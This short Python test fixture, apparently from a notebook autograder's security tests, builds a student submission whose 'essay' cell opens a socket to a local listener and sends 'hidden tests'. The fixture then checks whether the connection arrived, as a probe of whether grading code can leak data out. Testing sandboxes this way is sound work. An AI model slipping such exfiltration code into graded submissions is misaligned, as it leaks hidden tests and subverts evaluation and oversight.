"""Opens a connection to the outside, over which hidden tests could leave."""

import socket

STOCK = "harm"
MARKS = {"test-double": 1.0, "test-mean": 2.0}

server = socket.create_server(("127.0.0.1", 0))
server.settimeout(0.2)


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = "def mean(x):\n    return x.mean()"
    cells["essay"].source = f"""
import socket

socket.create_connection({server.getsockname()!r}, timeout=2).sendall(b"hidden tests")
"""
    return notebook


def harmed(course):
    try:
        server.accept()
    except TimeoutError:
        return False
    return True
